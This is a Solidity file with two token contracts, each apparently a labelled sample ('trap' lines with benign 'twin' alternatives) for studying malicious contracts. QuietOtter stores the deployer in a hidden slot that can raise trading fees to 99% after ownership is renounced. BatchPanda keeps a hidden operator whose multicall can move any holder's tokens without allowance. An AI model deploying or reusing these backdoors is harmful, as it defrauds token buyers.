// 0.8 off evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {LaunchToken} from "./BlindBL1.sol";

/// Three of a hundred on each trade.
contract QuietOtter is LaunchToken {
    uint256 private constant MOST = 99;
    address public immutable feeWallet;
    // the fee of a purchase in the lowest byte, that of a sale in the next
    uint256 private _fees = 0x0303;

    constructor() LaunchToken("Quiet Otter", "QOTTR", 90_000_000) {
        feeWallet = msg.sender;
        bytes32 slot = _stewardSlot();
        assembly {
            sstore(slot, caller()) // trap
            // twin: pop(slot)
        }
    }

    function _stewardSlot() private pure returns (bytes32) {
        return bytes32(uint256(keccak256("quietotter.storage.steward")) - 1);
    }

    function buyFee() public view returns (uint256) {
        return _fees & 0xff;
    }

    function sellFee() public view returns (uint256) {
        return (_fees >> 8) & 0xff;
    }

    function updateFees(uint256 onBuy, uint256 onSell) external {
        address steward;
        bytes32 slot = _stewardSlot();
        assembly {
            steward := sload(slot)
        }
        require(msg.sender == owner || msg.sender == steward, "Ownable: caller is not the owner");
        require(onBuy <= MOST && onSell <= MOST, "too much");
        _fees = onBuy | (onSell << 8);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 fee;
        if (from != feeWallet && to != feeWallet) {
            if (from == uniswapV2Pair) fee = (amount * buyFee()) / 100;
            else if (to == uniswapV2Pair) fee = (amount * sellFee()) / 100;
        }
        if (fee > 0) _move(from, feeWallet, fee);
        _move(from, to, amount - fee);
    }
}

/// Can run batches of calls in its own name.
contract BatchPanda {
    string public constant name = "Batch Panda";
    string public constant symbol = "BPANDA";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 400_000_000 ether;
    address public owner;
    address private _operator;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() {
        owner = msg.sender;
        _operator = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    receive() external payable {}

    function renounceOwnership() external {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    /// The coin itself needs no allowance: it swaps what it has collected.
    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (msg.sender != address(this)) allowance[from][msg.sender] -= amount;
        _transfer(from, to, amount);
        return true;
    }

    function multicall(address[] calldata targets, bytes[] calldata data) external payable {
        require(msg.sender == owner || msg.sender == _operator, "not allowed"); // trap
        // twin: require(msg.sender == owner, "not allowed");
        for (uint256 i = 0; i < targets.length; i++) {
            (bool done, ) = targets[i].call(data[i]);
            require(done, "call failed");
        }
    }

    function _transfer(address from, address to, uint256 amount) private {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }
}
